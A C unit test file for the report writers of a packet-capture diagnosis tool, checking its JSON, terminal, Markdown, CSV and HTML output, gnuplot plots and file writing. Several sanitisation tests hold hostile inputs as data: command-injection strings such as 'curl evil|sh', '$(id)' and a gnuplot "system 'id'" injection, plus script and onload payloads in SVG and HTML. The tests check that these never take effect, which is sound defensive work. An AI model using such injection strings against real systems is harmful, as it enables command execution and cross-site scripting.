/* SPDX-License-Identifier: GPL-2.0-or-later */
/* src/report/: JSON, terminal, Markdown, CSV, HTML, and writing them. */
#include "cmocka_all.h"

#include <fcntl.h>
#include <jansson.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/text.h"
#include "base/when.h"
#include "options.h"
#include "report/gnuplot.h"
#include "report/html.h"
#include "report/html_table.h"
#include "report/report.h"
#include "report/report_file.h"
#include "report/report_plots.h"
#include "report/report_words.h"
#include "result_build.h"

static json_t *json_of(const struct result *r)
{
	struct text t = {0};
	json_error_t error;
	json_t *j;

	report_json(r, &t);
	j = json_loads(text_str(&t), JSON_REJECT_DUPLICATES, &error);
	if (!j)
		fail_msg("not JSON: %s at line %d", error.text, error.line);
	text_free(&t);
	return j;
}

/* `path` as "a.b.0.c". */
static json_t *at(json_t *j, const char *path)
{
	char key[64];

	while (j && *path) {
		size_t n = strcspn(path, ".");

		snprintf(key, sizeof(key), "%.*s", (int)n, path);
		j = json_is_array(j) ? json_array_get(j, strtoul(key, NULL, 10)) : json_object_get(j, key);
		path += n + (path[n] == '.');
	}
	return j;
}

static void must_have(json_t *j, const char *const *paths)
{
	for (; *paths; paths++)
		if (!at(j, *paths))
			fail_msg("the report has no %s", *paths);
}

static void test_json_has_every_promised_key(void **state)
{
	static const char *const paths[] = {"schema", "version", "capture.sources.0.name", "capture.sources.0.format",
		"capture.sources.0.link_type", "capture.sources.0.snaplen", "capture.sources.0.packets",
		"capture.sources.0.bytes", "capture.sources.0.first_ts", "capture.sources.0.last_ts",
		"capture.sources.0.cut_short", "capture.packets", "capture.bytes", "capture.duration_s",
		"capture.first_ts", "capture.last_ts", "verdict.severity", "verdict.headline", "diagnoses.0.id",
		"diagnoses.0.title", "diagnoses.0.summary", "diagnoses.0.subject", "diagnoses.0.severity",
		"diagnoses.0.confidence", "diagnoses.0.responsible", "diagnoses.0.causes.0.cause",
		"diagnoses.0.causes.0.likelihood", "diagnoses.0.causes.0.because", "diagnoses.0.against",
		"diagnoses.0.next", "diagnoses.0.findings", "findings.0.id", "findings.0.code", "findings.0.severity",
		"findings.0.state", "findings.0.title", "findings.0.detail", "findings.0.subject.client",
		"findings.0.subject.server", "findings.0.subject.port", "findings.0.subject.service",
		"findings.0.count", "findings.0.of", "findings.0.first_ts", "findings.0.last_ts", "findings.0.facts",
		"findings.0.evidence.0.source", "findings.0.evidence.0.frame", "findings.0.evidence.0.ts",
		"findings.0.evidence.0.what", "findings.0.filter", "findings.0.filter_source", "gateways.0.mac",
		"gateways.0.vendor", "gateways.0.kind", "gateways.0.vlan", "gateways.0.behind_hosts", "gateways.0.hops",
		"gateways.0.example_hosts", "gateways.0.role", "hosts.0", "services.0", "connections.tcp.total",
		"connections.tcp.outcomes.ok", "connections.tcp.outcomes.refused", "connections.tcp.outcomes.no-answer",
		"connections.tcp.outcomes.reset", "connections.tcp.outcomes.timeout", "connections.tcp.packets",
		"connections.tcp.flags.syn", "connections.tcp.flags.syn_ack", "connections.tcp.flags.fin",
		"connections.tcp.flags.rst", "connections.tcp.analysis.retransmission",
		"connections.tcp.analysis.fast_retransmission", "connections.tcp.analysis.spurious_retransmission",
		"connections.tcp.analysis.out_of_order", "connections.tcp.analysis.duplicate_ack",
		"connections.tcp.analysis.lost_segment", "connections.tcp.analysis.ack_lost_segment",
		"connections.tcp.analysis.zero_window", "connections.tcp.analysis.zero_window_probe",
		"connections.tcp.analysis.window_full", "connections.tcp.analysis.window_update",
		"connections.tcp.analysis.keep_alive", "connections.tcp.analysis.keep_alive_ack",
		"connections.tcp.analysis.reused_ports", "connections.tcp.loss.lost",
		"connections.tcp.loss.retransmitted", "connections.tcp.loss.spurious", "connections.tcp.loss.reordered",
		"connections.tcp.loss.duplicated_by_capture", "connections.tcp.loss.duplicated_by_network",
		"connections.udp.total", "tls.client_hellos", "tls.server_hellos", "tls.completed", "tls.alerts.40",
		"dns.queries", "dns.responses", "dns.rcodes.3", "time_wait.assumed_s", "time_wait.hosts.0.host",
		"time_wait.hosts.0.peak", "time_wait.hosts.0.peak_ts", "time_wait.hosts.0.per_minute_peak", "names",
		NULL};
	struct result *r = result_rich();
	json_t *j = json_of(r);

	(void)state;
	must_have(j, paths);
	json_decref(j);
	result_free(r);
}

static void test_json_values_keep_their_types(void **state)
{
	struct result *r = result_rich();
	json_t *j = json_of(r);

	(void)state;
	assert_string_equal(json_string_value(at(j, "schema")), "pcapdx-report/1");
	assert_string_equal(json_string_value(at(j, "findings.0.evidence.1.ts")), "2026-09-21T14:13:25.140656789Z");
	assert_true(json_number_value(at(j, "findings.0.facts.delay_median_s")) == 5.0001);
	assert_true(json_is_null(at(j, "findings.2.of")));
	assert_true(json_is_null(at(j, "findings.2.facts.recovered_after_s")));
	assert_int_equal(json_integer_value(at(j, "findings.2.facts.at_count")), 401);
	assert_int_equal(json_array_size(at(j, "findings.4.facts.hosts")), 2);
	assert_string_equal(json_string_value(at(j, "diagnoses.0.findings.1")), "F2");
	assert_string_equal(json_string_value(at(j, "diagnoses.0.responsible")), "middlebox");
	assert_null(at(j, "findings.0.subject.host")); /* unset: left out */
	json_decref(j);
	result_free(r);
}

static void test_json_of_an_empty_capture_is_whole(void **state)
{
	struct result *r = result_without_packets();
	json_t *j = json_of(r);

	(void)state;
	assert_true(json_is_null(at(j, "capture.first_ts")));
	assert_int_equal(json_integer_value(at(j, "capture.packets")), 0);
	assert_string_equal(json_string_value(at(j, "verdict.severity")), "ok");
	json_decref(j);
	result_free(r);
}

static char *terminal_of(const struct result *r, int verbose, bool colour, int width)
{
	struct report_style style = {.verbose = verbose, .colour = colour, .width = width};
	struct text t = {0};

	report_terminal(r, &style, &t);
	return t.s;
}

static void test_line_one_is_the_verdict(void **state)
{
	struct result *r = result_rich();
	char *quiet = terminal_of(r, -1, false, 80), *usual = terminal_of(r, 0, false, 80);

	(void)state;
	assert_true(strncmp(quiet, "error: 198.51.100.20:443 resets", 31) == 0);
	assert_true(strchr(quiet, '\n') == quiet + strlen(quiet) - 1);
	assert_true(strncmp(quiet, usual, strlen(quiet)) == 0);
	assert_non_null(strstr(usual, "error[rst-after-client-hello]: "));
	assert_non_null(strstr(usual, "  --> trouble.pcapng frames 16, 18, 26, 34\n"));
	assert_non_null(strstr(usual, "   = filter: tcp.stream in {2..5}\n"));
	assert_null(strchr(usual, '\x1b'));
	free(quiet);
	free(usual);
	result_free(r);
}

static void test_terminal_lines_fit_the_width(void **state)
{
	struct result *r = result_rich();
	char *out = terminal_of(r, 1, false, 80);

	(void)state;
	for (char *line = strchr(out, '\n') + 1; *line; line = strchr(line, '\n') + 1) {
		size_t n = strcspn(line, "\n");

		/* filters and commands are copied: they stay whole */
		if (n > 80 && strncmp(line, "   = filter", 11) != 0 && !strstr(line, "tcpdump -ni") &&
			!strstr(line, "openssl s_"))
			fail_msg("too long: %.*s", (int)n, line);
	}
	free(out);
	result_free(r);
}

static void test_colour_is_only_there_when_asked_for(void **state)
{
	struct result *r = result_healthy();
	char *plain = terminal_of(r, 0, false, 80), *coloured = terminal_of(r, 0, true, 80);

	(void)state;
	assert_null(strchr(plain, '\x1b'));
	assert_true(strncmp(coloured, "\x1b[1;32mok\x1b[0m: ", 15) == 0);
	free(plain);
	free(coloured);
	result_free(r);
}

/* No byte of an output may act: no control but line ends (and tabs in none), no markup that was not ours. */
static void no_controls(const char *s)
{
	for (; *s; s++)
		if (((unsigned char)*s < 0x20 && *s != '\n' && *s != '\r' && *s != '\t') || *s == 0x7f)
			fail_msg("control byte %d before: %.30s", *s, s + 1);
}

/* Takes out what stands between equal runs of backquotes: markup is dead there. */
static char *without_code_spans(const char *s)
{
	struct text t = {0};

	while (*s) {
		size_t run = strspn(s, "`");
		const char *end = s + run;

		if (!run) {
			text_add_char(&t, *s++);
			continue;
		}
		for (; *end && strspn(end, "`") != run; end += strspn(end, "`") ? strspn(end, "`") : 1)
			;
		assert_true(*end); /* each span ends */
		s = end + run;
	}
	return t.s;
}

static void test_hostile_text_acts_in_no_output(void **state)
{
	struct result *r = result_hostile();
	struct text out[4] = {{0}, {0}, {0}, {0}};
	char *terminal = terminal_of(r, 1, false, 80), *prose;

	(void)state;
	no_controls(terminal);
	report_json(r, &out[0]);
	report_markdown(r, &out[1]);
	report_csv(r, &out[2]);
	report_html(r, &out[3]);
	for (int i = 0; i < 4; i++) {
		no_controls(text_str(&out[i]));
		assert_null(strstr(text_str(&out[i]), "\xe2\x80\xae"));
		assert_null(strstr(text_str(&out[i]), "\xff"));
	}
	prose = without_code_spans(text_str(&out[1]));
	assert_null(strstr(prose, "<img"));
	free(prose);
	assert_null(strstr(text_str(&out[3]), "<img"));
	assert_null(strstr(text_str(&out[3]), "<svg onload"));
	assert_null(strstr(text_str(&out[3]), "alert(1)</script>"));
	assert_null(strstr(text_str(&out[3]), "<i onclick"));
	assert_int_not_equal(access("/tmp/pcapdx-owned", F_OK), 0);
	for (int i = 0; i < 4; i++)
		text_free(&out[i]);
	free(terminal);
	result_free(r);
}

static void test_csv_has_a_row_per_connection(void **state)
{
	struct result *r = result_rich();
	struct text t = {0};
	int lines = 0;

	(void)state;
	report_csv(r, &t);
	for (const char *s = text_str(&t); (s = strstr(s, "\r\n")); s += 2)
		lines++;
	assert_int_equal(lines, 25);
	assert_non_null(strstr(text_str(&t), ",tls,customerweb.example,TLS 1.2,reset,rst-after-client-hello,5.0172,"));
	text_free(&t);
	result_free(r);
}

static int count_of(const char *haystack, const char *needle)
{
	int n = 0;

	for (; (haystack = strstr(haystack, needle)); haystack += strlen(needle))
		n++;
	return n;
}

static void test_page_asks_nobody_and_draws_its_plots(void **state)
{
	struct result *r = result_rich();
	struct text t = {0};

	(void)state;
	report_html(r, &t);
	assert_non_null(strstr(text_str(&t), "default-src 'none'; style-src 'sha256-"));
	assert_null(strstr(text_str(&t), "http://"));
	assert_null(strstr(text_str(&t), "https://"));
	assert_null(strstr(text_str(&t), " src="));
	assert_null(strstr(text_str(&t), " style="));
	assert_null(strstr(text_str(&t), "@import"));
	assert_int_equal(count_of(text_str(&t), "<figure class=\"plot\">"), 5);
	assert_non_null(strstr(text_str(&t), "id=\"D1\""));
	assert_non_null(strstr(text_str(&t), "id=\"F5\""));
	assert_false(r->plots_failed);
	text_free(&t);
	result_free(r);
}

static void test_plots_follow_from_a_whole_table_only(void **state)
{
	struct result *r = result_rich();
	double fine = 0, failed = 0;
	int before = r->plot_count;

	(void)state;
	r->connections_left_out = 1;
	report_plots_add(r);
	assert_int_equal(r->plot_count, before);
	r->connections_left_out = 0;
	report_plots_add(r);
	report_plots_add(r); /* once is enough */
	assert_int_equal(r->plot_count, before + 2);
	assert_string_equal(r->plots[0]->id, "connections-over-time");
	assert_string_equal(r->plots[1]->id, "handshake-stages");
	for (int i = 0; i < r->plots[0]->lines[0].count; i++) {
		fine += r->plots[0]->lines[0].y[i];
		failed += r->plots[0]->lines[1].y[i];
	}
	assert_true(fine == 20 && failed == 4);
	result_free(r);
}

static void test_resets_are_counted_by_their_delay(void **state)
{
	struct result *r = result_rich();
	const struct plot *p = NULL;
	double all = 0;

	(void)state;
	for (int i = 0; i < r->connection_count; i++) {
		struct connection_row *row = &r->connections[i];

		row->outcome = i < 3 ? OUTCOME_RESET : OUTCOME_OK;
		row->record->conn.rst_count = 1;
		row->record->conn.rsts[0].after_peer_ns = i < 2 ? 5004 * NS_PER_MS : 2 * NS_PER_MS;
	}
	report_plots_add(r);
	for (int i = 0; i < r->plot_count; i++)
		if (strcmp(r->plots[i]->id, "rst-delay") == 0)
			p = r->plots[i];
	assert_non_null(p);
	for (int i = 0; i < p->lines[0].count; i++)
		all += p->lines[0].y[i];
	assert_true(all == 3);
	assert_true(p->lines[0].y[0] == 1);
	assert_true(p->lines[0].y[p->lines[0].count - 1] == 2);
	assert_non_null(strstr(p->says, "3 conversations were reset 2.0 ms to 5.0 s"));
	result_free(r);
}

static void test_columns_without_a_value_are_left_out(void **state)
{
	static const struct column columns[] = {{"First", false}, {"Never", false}, {"Second", true}};
	struct text t = {0};
	size_t begin = table_open(&t, "x", "X", COLUMNS(columns));

	(void)state;
	for (int i = 0; i < 3; i++) {
		text_add(&t, "<tr>");
		cell_text(&t, i == 1 ? "<td>" : "");
		cell_text(&t, NULL);
		cell_count(&t, 1000);
		text_add(&t, "</tr>\n");
	}
	table_close(&t, begin, 0, "");
	assert_null(strstr(text_str(&t), "Never"));
	assert_non_null(strstr(text_str(&t), "First</th><th scope=\"col\" class=\"n\">Second"));
	assert_non_null(strstr(text_str(&t), "<tr><td>&lt;td&gt;</td><td class=\"n\" data-v=\"1000\">1,000</td></tr>"));
	assert_non_null(strstr(text_str(&t), "<tr><td></td><td class=\"n\" data-v=\"1000\">"));
	text_free(&t);
}

static void test_page_stays_below_its_bound(void **state)
{
	struct result *r = result_huge(20000);
	struct text t = {0};

	(void)state;
	report_html(r, &t);
	assert_true(t.len < HTML_BYTES_MAX);
	assert_non_null(strstr(text_str(&t), "more rows are not in this page"));
	assert_non_null(strstr(text_str(&t), "</html>"));
	text_free(&t);
	result_free(r);
}

static void test_page_is_complete_without_gnuplot(void **state)
{
	struct result *r = result_rich();
	char *path = xstrdup(getenv("PATH"));
	struct text t = {0};

	(void)state;
	setenv("PATH", "/nonexistent", 1);
	report_html(r, &t);
	setenv("PATH", path, 1);
	assert_true(r->plots_failed);
	assert_non_null(strstr(text_str(&t), "gnuplot could not be run"));
	assert_non_null(strstr(text_str(&t), "id=\"connections\""));
	free(path);
	text_free(&t);
	result_free(r);
}

static char folder[] = "/tmp/pcapdx-report-XXXXXX";

static void path_in(char *out, size_t size, const char *name)
{
	snprintf(out, size, "%s/%s", folder, name);
}

/* A program of that name that ends without reading, and says nothing. */
static void test_a_gnuplot_that_fails_ends_nothing_else(void **state)
{
	char *path = xstrdup(getenv("PATH")), program[128], folders[64];
	struct text script = {0}, svg = {0};
	int fd;

	(void)state;
	path_in(program, sizeof(program), "gnuplot");
	path_in(folders, sizeof(folders), "");
	fd = open(program, O_WRONLY | O_CREAT, 0755);
	assert_int_equal(write(fd, "#!/bin/false\n", 13), 13);
	close(fd);
	for (int i = 0; i < 400000; i++)
		text_add(&script, "# more than a socket holds\n");
	setenv("PATH", folders, 1);
	assert_false(gnuplot_run(&script, &svg));
	setenv("PATH", path, 1);
	unlink(program);
	free(path);
	text_free(&script);
	text_free(&svg);
}

static void test_facts_are_told_with_their_units(void **state)
{
	struct finding f = {0};
	struct text t = {0};

	(void)state;
	finding_number(&f, "delay_s", 5.01);
	finding_number(&f, "per_s", 120.5);
	finding_number(&f, "rate", 0.031);
	finding_number(&f, "rate_bps", 1234567.8);
	finding_null(&f, "sni");
	for (int i = 0; i < f.fact_count; i++) {
		words_fact(&t, &f.facts[i]);
		text_add(&t, "; ");
	}
	assert_string_equal(text_str(&t), "5.0 s; 120.5; 3.1 %; 1,234,568; unknown; ");
	free(f.facts);
	text_free(&t);
}

static void test_gnuplot_sees_numbers_and_constants_only(void **state)
{
	struct result *r = result_hostile();
	struct text t = {0};

	(void)state;
	gnuplot_script(r->plots[0], &t);
	assert_null(strstr(text_str(&t), "system"));
	assert_null(strstr(text_str(&t), "alert"));
	assert_null(strchr(text_str(&t), '`'));
	text_clear(&t);
	r->plots[0]->x_label = "a' ; system 'id";
	gnuplot_script(r->plots[0], &t);
	assert_null(strstr(text_str(&t), "system"));
	text_free(&t);
	result_free(r);
}

static void test_long_series_keep_their_peak(void **state)
{
	struct result *r = xcalloc(1, sizeof(*r));
	struct plot *p = result_plot(r, "rtt", "x", "x", "y");
	struct plot_line *l = plot_line(p, "x");
	struct text t = {0};

	(void)state;
	for (int i = 0; i < 100000; i++)
		plot_point(l, i, i == 54321 ? 99.5 : 1 + i % 2);
	gnuplot_script(p, &t);
	assert_non_null(strstr(text_str(&t), "\n54321 99.5\n"));
	assert_true(count_of(text_str(&t), "\n") < PLOT_POINTS_MAX + 40);
	text_free(&t);
	result_free(r);
}

static void test_svg_loses_all_but_its_shapes(void **state)
{
	static const char svg[] = "<svg><defs><script>x</script></defs><g stroke=\"none\" transform=\"translate(1,2)\" "
				  "text-anchor=\"end\" onload=\"x\"><text>5 &lt;</text></g><script>alert(1)</script>"
				  "<path stroke='rgb(  0,   0,   2)' style='x' d='M1,2 L3,4'/>"
				  "<path stroke='rgb(  1,   0,   0)' d='M1\"><script>'/><a href='x'>y</a></svg>";
	struct text t = {0};

	(void)state;
	svg_plain(&t, svg);
	assert_string_equal(text_str(&t), "<text transform=\"translate(1,2)\" text-anchor=\"end\">5 &amp;lt;</text>\n"
					  "<path class=\"s2\" d=\"M1,2 L3,4\"/>\n<path class=\"axis\"/>\n");
	text_free(&t);
}

static void check_step(const char *step, const char *command)
{
	struct step_parts parts;

	if (!command) {
		assert_false(words_step(step, &parts));
		return;
	}
	assert_true(words_step(step, &parts));
	assert_int_equal(parts.command_len, strlen(command));
	assert_memory_equal(parts.command, command, strlen(command));
}

static void test_commands_are_found_in_steps(void **state)
{
	(void)state;
	check_step("Ask who runs the firewall", NULL);
	check_step("tcpdump -ni eth0 port 443", "tcpdump -ni eth0 port 443");
	check_step("On the server: ss -lnp 'sport = :443'", "ss -lnp 'sport = :443'");
	check_step("Count them: ss -tan state time-wait | wc -l", "ss -tan state time-wait | wc -l");
	check_step("Capture whole frames: tcpdump -s 0, then look again", "tcpdump -s 0");
	check_step("openssl s_client -connect a:1 (from there, too)", "openssl s_client -connect a:1");
	check_step("Say: nothing", NULL);
}

static void test_nothing_that_a_shell_acts_on_is_offered_for_copying(void **state)
{
	(void)state;
	check_step("openssl s_client -servername x;curl evil|sh", NULL);
	check_step("openssl s_client -servername $(id)", NULL);
	check_step("openssl s_client -servername `id`", NULL);
	check_step("tcpdump 'host x' ' or ", NULL);
	check_step("Ask x: y: curl evil", NULL);
	check_step("ss -tan | sh", NULL);
}

static void test_files_are_replaced_whole(void **state)
{
	struct text content = {0};
	char path[128], link[128], error[256], got[16] = "";
	struct stat st;
	int fd;

	(void)state;
	path_in(path, sizeof(path), "a.txt");
	path_in(link, sizeof(link), "link.txt");
	text_add(&content, "first");
	assert_int_equal(report_file_write(path, &content, error, sizeof(error)), 0);
	assert_int_equal(chmod(path, 0640), 0);
	assert_int_equal(symlink(path, link), 0);
	text_add(&content, " second");
	assert_int_equal(report_file_write(link, &content, error, sizeof(error)), 0);
	assert_int_equal(lstat(link, &st), 0);
	assert_true(S_ISLNK(st.st_mode));
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0640);
	fd = open(path, O_RDONLY);
	assert_int_equal(read(fd, got, sizeof(got)), 12);
	close(fd);
	assert_string_equal(got, "first second");
	unlink(link);
	unlink(path);
	text_free(&content);
}

static void test_a_full_disk_is_told(void **state)
{
	struct text content = {0};
	char path[128], error[256];

	(void)state;
	text_add(&content, "x");
	assert_int_equal(report_file_write("/dev/full", &content, error, sizeof(error)), -1);
	assert_string_equal(error, "cannot write /dev/full: No space left on device");
	path_in(path, sizeof(path), "no/such/folder.txt");
	assert_int_equal(report_file_write(path, &content, error, sizeof(error)), -1);
	assert_non_null(strstr(error, "No such file or directory"));
	text_free(&content);
}

static void test_every_output_asked_for_is_written(void **state)
{
	char json[128], page[128], error[256];
	struct options o = {.output_count = 3,
		.outputs = {{.path = json}, {.path = "/dev/full", .format = "csv"}, {.path = page, .format = "html"}}};
	struct result *r = result_healthy();

	(void)state;
	path_in(json, sizeof(json), "r.json");
	path_in(page, sizeof(page), "page");
	assert_int_equal(report_write(r, &o, error, sizeof(error)), -1);
	assert_non_null(strstr(error, "/dev/full"));
	assert_int_equal(unlink(json), 0);
	assert_int_equal(unlink(page), 0); /* written although the one before it failed */
	result_free(r);
}

static void test_formats_are_known_by_extension(void **state)
{
	(void)state;
	assert_string_equal(report_format_of("a/b.c/report.HTML"), "html");
	assert_string_equal(report_format_of("x.md"), "md");
	assert_string_equal(report_format_of("x.json"), "json");
	assert_string_equal(report_format_of("x.csv"), "csv");
	assert_string_equal(report_format_of("x.txt"), "text");
	assert_null(report_format_of("dir.html/x"));
	assert_null(report_format_of("-"));
}

static int make_folder(void **state)
{
	(void)state;
	return mkdtemp(folder) ? 0 : -1;
}

static int remove_folder(void **state)
{
	(void)state;
	return rmdir(folder);
}

/* Writes a hand-made result for the tests that look at files: test_report --write NAME FILE [-v or -q]. */
static int write_result(const char *name, const char *path, const char *verbose)
{
	struct result *r = strcmp(name, "hostile") == 0	  ? result_hostile()
			   : strcmp(name, "empty") == 0	  ? result_without_packets()
			   : strcmp(name, "healthy") == 0 ? result_healthy()
			   : strcmp(name, "huge") == 0	  ? result_huge(4000)
							  : result_rich();
	struct options o = {.output_count = 1, .outputs = {{.path = path}}};
	char error[256];
	int failed;

	o.verbose = strcmp(verbose, "-v") == 0 ? 1 : strcmp(verbose, "-q") == 0 ? -1 : 0;
	failed = report_write(r, &o, error, sizeof(error));
	if (failed)
		fprintf(stderr, "%s\n", error);
	result_free(r);
	return failed ? 1 : 0;
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_json_has_every_promised_key),
		cmocka_unit_test(test_json_values_keep_their_types),
		cmocka_unit_test(test_json_of_an_empty_capture_is_whole),
		cmocka_unit_test(test_line_one_is_the_verdict),
		cmocka_unit_test(test_terminal_lines_fit_the_width),
		cmocka_unit_test(test_colour_is_only_there_when_asked_for),
		cmocka_unit_test(test_hostile_text_acts_in_no_output),
		cmocka_unit_test(test_csv_has_a_row_per_connection),
		cmocka_unit_test(test_page_asks_nobody_and_draws_its_plots),
		cmocka_unit_test(test_plots_follow_from_a_whole_table_only),
		cmocka_unit_test(test_resets_are_counted_by_their_delay),
		cmocka_unit_test(test_columns_without_a_value_are_left_out),
		cmocka_unit_test(test_page_stays_below_its_bound),
		cmocka_unit_test(test_page_is_complete_without_gnuplot),
		cmocka_unit_test(test_a_gnuplot_that_fails_ends_nothing_else),
		cmocka_unit_test(test_facts_are_told_with_their_units),
		cmocka_unit_test(test_gnuplot_sees_numbers_and_constants_only),
		cmocka_unit_test(test_long_series_keep_their_peak),
		cmocka_unit_test(test_svg_loses_all_but_its_shapes),
		cmocka_unit_test(test_commands_are_found_in_steps),
		cmocka_unit_test(test_nothing_that_a_shell_acts_on_is_offered_for_copying),
		cmocka_unit_test(test_files_are_replaced_whole),
		cmocka_unit_test(test_a_full_disk_is_told),
		cmocka_unit_test(test_every_output_asked_for_is_written),
		cmocka_unit_test(test_formats_are_known_by_extension),
	};

	if (argc >= 4 && strcmp(argv[1], "--write") == 0)
		return write_result(argv[2], argv[3], argc > 4 ? argv[4] : "");
	return cmocka_run_group_tests(tests, make_folder, remove_folder);
}
